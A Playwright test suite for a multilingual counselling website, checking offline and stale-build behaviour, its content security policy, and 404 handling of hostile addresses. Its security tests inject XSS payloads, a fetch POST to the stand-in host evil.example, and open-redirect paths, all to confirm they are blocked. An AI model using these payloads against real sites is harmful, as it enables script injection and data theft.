import type { Page, Route } from '@playwright/test';
import { allLocales, locales } from '@/content/locales';
import { phoneHref } from '@/content/phone';
import { localePath, pagePaths } from '@/content/site-map';
import { pageName, wordsFor } from '@/content/words';
import { alive, expect, test } from '../site';

const { common, pages } = wordsFor('en');
const { contact, fees, services } = pages;
const { form, toast } = contact;

// The browser reports on the console what each of these breaks. Nothing else may stand there, so that an
// error of the site's own still fails the test. The last is what Chromium says of a document that follows
// another one, where its stylesheet is a file: it fades or it does not, and nothing is wrong with it.
const brokenOnPurpose =
  /^Failed to load resource|ChunkLoadError|^Failed to (fetch RSC payload|load chunk)|violates the following|Content Security Policy|ViewTransition opt-in disabled/;

test.afterEach(({ trouble }) => {
  trouble.console = trouble.console.filter((line) => !brokenOnPurpose.test(line));
});

const title = (page: Page) => page.getByRole('heading', { level: 1 });
const inHeader = (page: Page, name: string) =>
  page.getByRole('banner').getByRole('link', { name, exact: true }).filter({ visible: true });
const submit = (page: Page) => page.getByRole('button', { name: form.submit });
const notice = (page: Page) => page.getByRole('alert').filter({ hasText: common.connectionLost });

/** Marks the document, to see later whether it was replaced by another. */
const mark = (page: Page) => page.evaluate(() => Object.assign(window, { marked: true }));
const isMarked = (page: Page) => page.evaluate(() => 'marked' in window);

async function fillIn(page: Page) {
  await page.getByLabel(form.name.label).fill('Noor');
  await page.getByLabel(form.email.label).fill('noor@example.com');
  await page.getByLabel(form.message.label).fill('We would like to come together.');
}

const expectFilledIn = (page: Page) =>
  expect(page.getByLabel(form.message.label)).toHaveValue('We would like to come together.');

/** Reads, calls, moves on: what a visitor can do on any page, with its scripts or without. */
async function expectUsable(page: Page, heading: string) {
  await expect(title(page)).toHaveText(heading);
  await expect(
    page.locator(`a[href="${phoneHref}"]`).filter({ visible: true }).first(),
  ).toBeEnabled();
  await expect(page.getByText('Unexpected Application Error!')).toHaveCount(0);
  await inHeader(page, pageName('fees', 'en')).click();
  await expect(page).toHaveURL(pagePaths.fees);
  await expect(title(page)).toHaveText(fees.header.title);
}

/** Answers requests for some files, in place of the host. */
const answer = (page: Page, files: Files, how: (route: Route) => unknown) =>
  page.route(({ pathname }) => {
    const path = decodeURI(pathname);
    return files instanceof RegExp ? files.test(path) : files(path);
  }, how);

/** Whether a file is meant, by its decoded path. */
type Files = RegExp | ((path: string) => boolean);

/** The scripts that a page names, as decoded paths. A bundler may name them as it likes. */
async function scriptsOf(page: Page, path: string): Promise<string[]> {
  const html = await (await page.request.get(path)).text();
  return [...html.matchAll(/<script src="([^"]+)" (?!noModule)/g)].map(([, src = '']) =>
    decodeURI(src),
  );
}

/** The scripts that a page has, and home has not. */
async function ownScripts(page: Page, path: string): Promise<Files> {
  const [own, others] = [await scriptsOf(page, path), await scriptsOf(page, pagePaths.home)];
  const files = own.filter((file) => !others.includes(file));
  expect(files).not.toEqual([]);
  return (file) => files.includes(file);
}

/** The scripts that are fetched only when they are wanted, in a visit to these pages. */
async function laterScripts(page: Page, ...paths: string[]): Promise<Files> {
  const named = await Promise.all(paths.map((path) => scriptsOf(page, path)));
  return (file) => file.endsWith('.js') && !named.flat().includes(file);
}

const missing = (route: Route) => route.fulfill({ status: 404, body: 'Not found' });
const blocked = (route: Route) => route.abort('blockedbyclient');
const unanswered = () => undefined;

/** Waits until a page has asked for nothing for a while. */
async function quiet(page: Page) {
  let last = Date.now();
  const note = () => {
    last = Date.now();
  };
  page.on('request', note);
  page.on('requestfinished', note);
  await expect.poll(() => Date.now() - last > 400).toBe(true);
}

/** The files in which the router fetches a page: `/fees.txt`, `/fees/__next.….txt`. */
const payloads = /\.txt$/;

test.describe('when the network is gone', () => {
  for (const locale of allLocales) {
    test(`a click in ${locale} keeps the page, says so and offers the phone`, async ({
      page,
      context,
    }) => {
      const words = wordsFor(locale);
      await page.goto(localePath(pagePaths.services, locale), { waitUntil: 'networkidle' });
      await alive(page);
      await context.setOffline(true);
      await inHeader(page, pageName('fees', locale)).click();
      const alert = page.getByRole('alert').filter({ hasText: words.common.connectionLost });
      await expect(alert).toBeVisible();
      await expect(alert.getByRole('link', { name: words.common.actions.call })).toHaveAttribute(
        'href',
        phoneHref,
      );
      await expect(title(page)).toHaveText(words.pages.services.header.title);
      await context.setOffline(false);
      await inHeader(page, pageName('fees', locale)).click();
      await expect(title(page)).toHaveText(words.pages.fees.header.title);
      await expect(alert).toHaveCount(0);
    });
  }

  test('a half-written enquiry outlives a click on any link', async ({ page, context }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await fillIn(page);
    await mark(page);
    await context.setOffline(true);
    const footer = page.getByRole('contentinfo');
    for (const link of [
      inHeader(page, pageName('fees', 'en')),
      // Links that load a document.
      footer.getByRole('link', { name: common.footer.links['infidelity-recovery'] }),
      page.getByRole('banner').getByRole('link', { name: 'Français' }).filter({ visible: true }),
      // The button whose menu cannot be fetched.
      page.getByRole('button', { name: common.openServices }),
    ]) {
      await link.click();
      await expect(notice(page)).toBeVisible();
      // A click elsewhere takes the notice away.
      await page.getByLabel(form.message.label).click();
      await expect(notice(page)).toHaveCount(0);
    }
    await expectFilledIn(page);
    await expect(page).toHaveURL(pagePaths.contact);
    await context.setOffline(false);
    expect(await isMarked(page)).toBe(true);
    await expectUsable(page, contact.header.title);
  });

  test('the browser need not have noticed', async ({ page }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await fillIn(page);
    await page.route('**', (route) => route.abort('connectionfailed'));
    await inHeader(page, pageName('fees', 'en')).click();
    await expect(notice(page)).toBeVisible();
    await expectFilledIn(page);
    await page.unrouteAll();
    await expectUsable(page, contact.header.title);
  });

  test('a page that was fetched ahead still opens', async ({ page, context }) => {
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await alive(page);
    await inHeader(page, pageName('fees', 'en')).focus();
    await page.waitForResponse((response) => response.url().includes('/fees/__next'));
    await quiet(page);
    await context.setOffline(true);
    await inHeader(page, pageName('fees', 'en')).press('Enter');
    await expect(title(page)).toHaveText(fees.header.title);
    await expect(notice(page)).toHaveCount(0);
    await page.goBack();
    await expect(title(page)).toHaveText(services.header.title);
  });

  test('an enquiry is confirmed and the fields emptied all the same, as nothing is sent', async ({
    page,
    context,
  }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await context.setOffline(true);
    await fillIn(page);
    await submit(page).click();
    await expect(page.getByText(toast.title, { exact: true })).toBeVisible();
    await expect(page.getByLabel(form.message.label)).toHaveValue('');
  });
});

test.describe('when the network hangs', () => {
  for (const [what, filesOf] of [
    ['page', () => /^\/fees.*\.txt$/],
    ['page’s script', ownScripts],
  ] as const)
    test(`a ${what} that keeps one waiting is told of, and another one opens`, async ({ page }) => {
      await page.clock.install();
      await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
      await alive(page);
      await fillIn(page);
      await answer(page, await filesOf(page, pagePaths.fees), unanswered);
      await inHeader(page, pageName('fees', 'en')).click();
      // Before its five seconds, of which a busy machine may take some for these lines: the clock also runs by itself.
      await page.clock.runFor(2_000);
      await expect(notice(page)).toHaveCount(0);
      await page.clock.runFor(4_000);
      await expect(notice(page)).toBeVisible();
      await expectFilledIn(page);
      await inHeader(page, pageName('blog', 'en')).click();
      await page.clock.runFor(10_000);
      await expect(page).toHaveURL(pagePaths.blog);
      await expect(notice(page)).toHaveCount(0);
      await page.unrouteAll();
      await inHeader(page, pageName('fees', 'en')).click();
      await expect(title(page)).toHaveText(fees.header.title);
    });

  test('the page opens when it comes after all', async ({ page }) => {
    await page.clock.install();
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await alive(page);
    let release = () => {};
    const late = new Promise<void>((resolve) => {
      release = resolve;
    });
    await answer(page, payloads, async (route) => {
      await late;
      await route.continue();
    });
    await inHeader(page, pageName('fees', 'en')).click();
    await page.clock.runFor(6_000);
    await expect(notice(page)).toBeVisible();
    release();
    await expect(title(page)).toHaveText(fees.header.title);
    await expect(notice(page)).toHaveCount(0);
  });

  test('a page’s script may take half an hour, and nothing is lost meanwhile', async ({ page }) => {
    await page.clock.install();
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await fillIn(page);
    let release = () => {};
    const late = new Promise<void>((resolve) => {
      release = resolve;
    });
    await answer(page, await ownScripts(page, pagePaths.fees), async (route) => {
      await late;
      await route.continue();
    });
    await inHeader(page, pageName('fees', 'en')).click();
    await page.clock.runFor(30 * 60_000);
    await expect(notice(page)).toBeVisible();
    await expectFilledIn(page);
    release();
    await expect(title(page)).toHaveText(fees.header.title);
  });
});

for (const [what, how] of [
  ['missing', missing],
  ['blocked', blocked],
] as const) {
  test(`where the router’s files are ${what}, its links load documents`, async ({ page }) => {
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await alive(page);
    await mark(page);
    await answer(page, payloads, how);
    await inHeader(page, pageName('fees', 'en')).click();
    await expect(title(page)).toHaveText(fees.header.title);
    expect(await isMarked(page)).toBe(false);
    await alive(page);
  });

  test.describe(`when a script file is ${what}`, () => {
    test.use({ viewport: { width: 390, height: 844 } });

    for (const [which, filesOf] of [
      ['all', () => /\.js$/],
      [
        'the first, which pages share',
        async (page: Page, path: string) => {
          const [first] = await scriptsOf(page, path);
          return (file: string) => file === first;
        },
      ],
      ['the bundler’s own', () => /\/(webpack|turbopack)-[^/]*\.js$/],
      ['the page’s own', ownScripts],
    ] as const) {
      test(`(${which}) the page is read, the menu opens and its links lead on`, async ({
        page,
      }) => {
        await answer(page, await filesOf(page, pagePaths.fees), how);
        await page.goto(pagePaths.fees, { waitUntil: 'networkidle' });
        await expect(title(page)).toHaveText(fees.header.title);
        await expect(
          page.getByRole('complementary').getByRole('link', { name: common.actions.callShort }),
        ).toHaveAttribute('href', phoneHref);
        await page.getByRole('banner').locator('summary').click();
        await inHeader(page, pageName('couples-marriage', 'en')).click();
        await expect(page).toHaveURL(pagePaths['couples-marriage']);
        await expect(title(page)).toHaveText(wordsFor('en').pages['couples-marriage'].header.title);
      });
    }

    for (const locale of allLocales) {
      test(`the form in ${locale} gives nothing away, and says whom to call`, async ({ page }) => {
        const words = wordsFor(locale).pages.contact;
        await page.clock.install();
        await answer(page, /\.js$/, how);
        const path = localePath(pagePaths.contact, locale);
        await page.goto(path);
        const button = page.getByRole('button', { name: words.form.submit });
        await page.getByLabel(words.form.name.label).fill('Noor');
        await page.getByLabel(words.form.email.label).fill('noor@example.com');
        await page.getByLabel(words.form.message.label).fill('?');
        await expect(button).toBeDisabled();
        await page.getByLabel(words.form.email.label).press('Enter');
        await expect(page).toHaveURL(path);
        // CSS shows the hint after eight seconds, which the test does not wait for.
        const hint = page.getByText(words.form.late);
        await hint.evaluate((element) => {
          for (const animation of element.getAnimations()) animation.finish();
        });
        await expect(hint).toBeVisible();
      });
    }
  });
}

test('the hint below the form is gone once it is alive, and nothing has moved', async ({
  page,
}) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  let release = () => {};
  const late = new Promise<void>((resolve) => {
    release = resolve;
  });
  await answer(page, /\.js$/, async (route) => {
    await late;
    await route.continue();
  });
  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
  await expect(page.getByText(form.late)).toBeVisible();
  const before = await page.locator('form').boundingBox();
  release();
  await alive(page);
  await expect(page.getByText(form.late)).toBeHidden();
  expect(await page.locator('form').boundingBox()).toEqual(before);
});

test('a page whose script fails while React waits for it stays as it was served', async ({
  page,
}) => {
  let release = () => {};
  const late = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.clock.install();
  await answer(page, await ownScripts(page, pagePaths.contact), async (route) => {
    await late;
    await missing(route);
  });
  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
  // The router is there; the page's own script is not.
  await page.waitForFunction(() => 'next' in window);
  await page.clock.runFor(1_000);
  release();
  // Longer than a visit, and than webpack's default time limit.
  await page.clock.runFor(30 * 60_000);
  await expectUsable(page, contact.header.title);
});

test('a page whose script is missing is loaded as a document', async ({ page }) => {
  await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
  await alive(page);
  const documents: string[] = [];
  page.on('request', (request) => {
    if (request.isNavigationRequest()) documents.push(new URL(request.url()).pathname);
  });
  await answer(page, await ownScripts(page, pagePaths.fees), missing);
  await inHeader(page, pageName('fees', 'en')).click();
  await expect(title(page)).toHaveText(fees.header.title);
  await page.waitForLoadState('networkidle');
  expect(documents).toEqual([pagePaths.fees]);
});

for (const [what, how] of [
  ['missing', missing],
  ['blocked', blocked],
  ['unanswered', unanswered],
] as const) {
  test(`when what is fetched for a menu or a toast is ${what}, both do without it`, async ({
    page,
  }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await answer(page, await laterScripts(page, pagePaths.contact, pagePaths.services), how);

    await fillIn(page);
    await submit(page).click();
    const said = page.locator('form').getByRole('status').filter({ hasText: toast.title });
    await expect(said).toContainText(toast.description);
    await expect(page.getByLabel(form.message.label)).toHaveValue('');

    await inHeader(page, pageName('services', 'en')).hover();
    await inHeader(page, pageName('services', 'en')).click();
    await expect(title(page)).toHaveText(services.header.title);
  });
}

test('the services menu’s button leads to all services where its menu is missing', async ({
  page,
}) => {
  await page.goto(pagePaths.home, { waitUntil: 'networkidle' });
  await alive(page);
  await answer(page, await laterScripts(page, pagePaths.home, pagePaths.services), missing);
  await page.getByRole('button', { name: common.openServices }).click();
  await expect(title(page)).toHaveText(services.header.title);
  await expect(page.getByRole('menu')).toHaveCount(0);
});

test.describe('in a tab that is older than the site', () => {
  /**
   * Replaces the build on the host by another one, under a page that is open: payloads name the new build,
   * files of the old one are gone, and the next document loads files of the new one.
   */
  async function deploy(page: Page) {
    const documents: string[] = [];
    await page.route('**', async (route) => {
      const request = route.request();
      const { pathname } = new URL(request.url());
      if (request.isNavigationRequest()) documents.push(pathname);
      else if (documents.length === 0 && pathname.startsWith('/_next/static/'))
        return missing(route);
      else if (payloads.test(pathname)) {
        const response = await route.fetch();
        const text = await response.text();
        expect(text).toMatch(/"b":"[^"]+"/);
        const body = text.replace(/"b":"[^"]+"/, '"b":"another-build"');
        return route.fulfill({ response, body });
      }
      return route.continue();
    });
    return documents;
  }

  for (const ahead of [true, false]) {
    test(`a link ${ahead ? 'that was rested on ' : ''}leads to the new page, once`, async ({
      page,
    }) => {
      await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
      await alive(page);
      const documents = await deploy(page);
      const link = inHeader(page, pageName('fees', 'en'));
      if (ahead) {
        await link.focus();
        await page.waitForResponse((response) => response.url().includes('/fees/__next'));
        await quiet(page);
      }
      await link.press('Enter');
      await expect(title(page)).toHaveText(fees.header.title);
      await alive(page);
      await page.waitForLoadState('networkidle');
      expect(documents).toEqual([pagePaths.fees]);
    });
  }

  test('the services menu leads to all services', async ({ page }) => {
    await page.goto(pagePaths.home, { waitUntil: 'networkidle' });
    await alive(page);
    const documents = await deploy(page);
    await page.getByRole('button', { name: common.openServices }).click();
    await expect(title(page)).toHaveText(services.header.title);
    expect(documents).toEqual([pagePaths.services]);
  });

  test('an enquiry is confirmed below its button', async ({ page }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    await deploy(page);
    await fillIn(page);
    await submit(page).click();
    await expect(page.locator('form').getByRole('status')).toContainText(toast.title);
    await expect(page.getByLabel(form.message.label)).toHaveValue('');
  });
});

test.describe('what is injected', () => {
  test.use({ sharesPage: true });

  test.afterEach(({ trouble }) => {
    // React reports that the page differed from the exported one, and that it rendered it again.
    trouble.console = trouble.console.filter(
      (line) => !/error #418|Trusted\w+' assignment/.test(line),
    );
  });

  const evil = 'window.evil = (window.evil ?? 0) + 1';
  const hasRun = (page: Page) => page.evaluate(() => 'evil' in window);

  /** Requests to other hosts that left the browser: the policy has to stop every one before. */
  async function expectNothingLeft(page: Page, trouble: { hosts: string[] }, stopped: string[]) {
    expect(await hasRun(page)).toBe(false);
    await expect.poll(() => stopped).toEqual(trouble.hosts);
    trouble.hosts = [];
  }

  function stoppedBy(page: Page) {
    const stopped: string[] = [];
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') stopped.push(new URL(request.url()).origin);
    });
    return stopped;
  }

  for (const [what, html] of [
    ['an inline script', `<script>${evil}</script>`],
    ['a module', `<script type="module">${evil}</script>`],
    ['a script of another host', '<script src="https://evil.example/evil.js"></script>'],
    ['a script in the address', `<script src="data:text/javascript,${evil}"></script>`],
    ['a handler of an error', `<img src="/none.png" onerror="${evil}">`],
    ['a handler of a drawing', `<svg onload="${evil}"></svg>`],
    ['a frame', `<iframe srcdoc="<script>parent.evil = 1</script>"></iframe>`],
    ['a base', '<base href="https://evil.example/">'],
    ['a sheet of another host', '<link rel="stylesheet" href="https://evil.example/evil.css">'],
  ] as const) {
    test(`into the page as it is served does not run: ${what}`, async ({ page, trouble }) => {
      const stopped = stoppedBy(page);
      await page.route('**/services', async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace(/<\/main>/, `${html}</main>`);
        await route.fulfill({ response, body });
      });
      await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
      await expectNothingLeft(page, trouble, stopped);
      await expectUsable(page, services.header.title);
    });
  }

  test('as a form to another host sends nothing', async ({ page }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await alive(page);
    const told = page.waitForEvent('console', (message) => /form-action/.test(message.text()));
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    });
    await told;
    // Read in the page: Playwright's own checks would wait for the navigation that the policy stopped.
    expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
      contact.header.title,
    );
  });

  test('while it is open does not run, and the page goes on working', async ({ page, trouble }) => {
    const stopped = stoppedBy(page);
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await alive(page);
    const refused = await page.evaluate(async (evil) => {
      // In a timer, since the policy does not apply to what a debugger evaluates.
      await new Promise((resolve) => setTimeout(resolve));
      const refuses = (act: () => unknown) => {
        try {
          act();
          return false;
        } catch (error) {
          return error instanceof TypeError || error instanceof EvalError;
        }
      };
      const add = (name: string, attribute: string, value: string, text = '') => {
        const element = document.createElement(name);
        element.setAttribute(attribute, value);
        element.append(text);
        document.body.append(element);
        return element;
      };
      add('script', 'type', 'text/javascript', evil);
      add('a', 'href', `javascript:${evil}`).click();
      add('iframe', 'src', 'https://evil.example/');
      add('img', 'src', 'https://evil.example/?what=was+typed');
      fetch('https://evil.example/', { method: 'POST', body: 'typed' }).catch(() => undefined);
      return [
        () => document.body.insertAdjacentHTML('beforeend', `<img src="/x" onerror="${evil}">`),
        () => {
          document.createElement('div').innerHTML = `<svg onload="${evil}">`;
        },
        () => document.write(`<script>${evil}</script>`),
        () => {
          document.createElement('script').src = 'https://evil.example/evil.js';
        },
        // biome-ignore lint/security/noGlobalEval: it is what must not work.
        () => window.eval(evil),
        () => new Function(evil)(),
        () => window.setTimeout(evil, 0),
        () => document.body.setAttribute('onclick', evil),
      ].map(refuses);
    }, evil);
    expect(refused).toEqual(refused.map(() => true));
    await quiet(page);
    await expectNothingLeft(page, trouble, stopped);
    await expectUsable(page, services.header.title);
  });
});

test.describe('a hostile address', () => {
  test.use({ sharesPage: true });

  const script = '<script>window.evil=1</script>';
  const paths = [
    `/${encodeURIComponent('<img src=x onerror=window.evil=1>')}`,
    `/${encodeURIComponent(script)}`,
    `/contact${encodeURIComponent(`"'><svg onload=window.evil=1>`)}`,
    '/javascript:alert(1)',
    '/data:text/html,x',
    '//evil.example',
    '/es//evil.example',
    '//evil.example/%2e%2e',
    '/%5C%5Cevil.example',
    '/%2F%2Fevil.example',
    '/fr/%09//evil.example',
    '/%E2%80%AEmoc.live%E2%80%AC',
    '/%E0%A4%A',
    '/%',
    '/%00',
    '/__proto__/constructor',
    `/${'%F0%9F%8C%8A'.repeat(400)}`,
    `/?next=//evil.example#${script}`.replace('/', '/none'),
  ];

  for (const path of paths) {
    test(`${path.slice(0, 50)} becomes no markup and leads nowhere else`, async ({
      page,
      baseURL,
      trouble,
    }) => {
      // Real hosts keep two slashes; the tests' server would redirect to one, so the test answers itself.
      await page.route(`${baseURL}/**`, async (route) => {
        if (!route.request().isNavigationRequest() || route.request().url() === `${baseURL}/`)
          return route.continue();
        const response = await route.fetch({ url: `${baseURL}/no-such-page` });
        return route.fulfill({ response });
      });
      await page.goto(`${baseURL}${path}`);
      await alive(page);
      const address = page.url();
      await expect(title(page)).toHaveText('404');

      expect(await page.evaluate(() => 'evil' in window)).toBe(false);
      await expect(
        page.locator('main').locator('img, iframe, script, [onload], [onerror]'),
      ).toHaveCount(0);
      expect(await page.locator('main').textContent()).not.toMatch(/evil|\u202e|<|onload/);

      // Before and after the pointer has come near.
      for (const near of [false, true]) {
        const elsewhere = await page.evaluate((near) => {
          const links = [...document.querySelectorAll('a')];
          if (near)
            for (const link of links)
              link.dispatchEvent(new FocusEvent('focusin', { bubbles: true }));
          return links
            .filter(({ protocol, origin }) => protocol !== 'tel:' && origin !== location.origin)
            .map((link) => link.getAttribute('href'));
        }, near);
        expect(elsewhere).toEqual([]);
      }
      expect(page.url()).toBe(address);

      const locale = address.startsWith(`${baseURL}/es/`)
        ? 'es'
        : address.startsWith(`${baseURL}/fr/`)
          ? 'fr'
          : 'en';
      await expect(page.locator('html')).toHaveAttribute('lang', locales[locale].tag);
      await expect(page.locator(`main a[href="${phoneHref}"]`).first()).toBeVisible();
      await page.getByRole('link', { name: wordsFor(locale).notFound.action }).click();
      await expect(page).toHaveURL('/');
      trouble.console = trouble.console.filter((line) => !/404/.test(line));
    });
  }
});

test('a thousand enquiries leave one toast, an empty form and no more than there was', async ({
  page,
}) => {
  test.slow();
  await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
  await expect(submit(page)).toBeEnabled();
  const posted: string[] = [];
  page.on('request', (request) => {
    if (request.method() !== 'GET') posted.push(request.url());
  });
  const browser = await page.context().newCDPSession(page);
  await browser.send('Performance.enable');
  const kept = async () => {
    await browser.send('HeapProfiler.collectGarbage');
    const { metrics } = await browser.send('Performance.getMetrics');
    const value = (name: string) => metrics.find((metric) => metric.name === name)?.value ?? 0;
    return {
      nodes: value('Nodes'),
      listeners: value('JSEventListeners'),
      heap: value('JSHeapUsedSize'),
    };
  };
  const send = (times: number) =>
    page.evaluate(async (times) => {
      const form = document.querySelector('form') as HTMLFormElement;
      for (let sent = 0; sent < times; sent += 1) {
        for (const [name, value] of [
          ['name', 'Noor'],
          ['email', 'noor@example.com'],
          ['message', `Enquiry ${sent}`],
        ] as const) {
          const field = form.elements.namedItem(name) as HTMLInputElement;
          // Like a key press, which does not use the setter that React replaces.
          Object.getOwnPropertyDescriptor(Object.getPrototypeOf(field), 'value')?.set?.call(
            field,
            value,
          );
          field.dispatchEvent(new Event('input', { bubbles: true }));
        }
        form.requestSubmit();
        await null;
        if (form.querySelector('textarea')?.value) throw new Error(`${sent} was not heard.`);
      }
    }, times);

  await send(20);
  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
  const before = await kept();
  await send(1000);
  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
  await expect(page.getByLabel(form.message.label)).toHaveValue('');
  const after = await kept();
  // Far fewer than a thousand, so no enquiry leaves a node, a listener or a kilobyte behind.
  expect(after.nodes - before.nodes).toBeLessThan(500);
  expect(after.listeners - before.listeners).toBeLessThan(500);
  expect(after.heap - before.heap).toBeLessThan(1_000_000);
  expect(posted).toEqual([]);

  await page.getByRole('button', { name: toast.close, exact: true }).click();
  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(0);
  // Within a second after a success the form takes a press for a double-click.
  await page.waitForTimeout(1000);
  await fillIn(page);
  await submit(page).click();
  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
  await expectUsable(page, contact.header.title);
});
